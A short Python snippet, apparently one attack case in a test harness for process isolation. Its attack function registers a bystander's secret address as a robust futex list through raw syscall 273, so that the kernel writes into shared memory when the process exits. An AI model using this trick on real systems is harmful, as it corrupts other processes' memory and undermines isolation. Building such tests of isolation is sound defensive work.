"""Have the kernel write to memory that is shared when the process ends."""
import ctypes
import os


def attack(x):
    head = (ctypes.c_uint64 * 3)(SCENE["bystander_secret"], 0, 0)
    ctypes.CDLL(None).syscall(273, head, ctypes.c_size_t(24))
    os._exit(0)
